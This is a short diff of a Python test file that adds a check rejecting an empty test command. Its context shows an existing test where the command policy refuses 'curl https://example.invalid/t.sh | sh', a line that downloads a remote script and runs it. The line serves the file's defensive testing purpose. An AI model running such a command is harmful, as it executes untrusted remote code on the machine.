@@ -87,6 +87,13 @@ def test_missing_test_command(target, capsys) -> None:
     untouched(repo)
 
 
+def test_empty_test_command_is_a_usage_error_not_a_silent_default(target, capsys) -> None:
+    repo, tickets = target
+    assert fix(repo, tickets["unsafe-deserialization"].id, test_cmd="  ") == 2
+    assert "--test-cmd is empty" in one_line_error(capsys)
+    untouched(repo)
+
+
 def test_test_command_refused_by_the_command_policy(target, capsys) -> None:
     repo, tickets = target
     assert fix(repo, tickets["unsafe-deserialization"].id, test_cmd="curl https://example.invalid/t.sh | sh") == 2
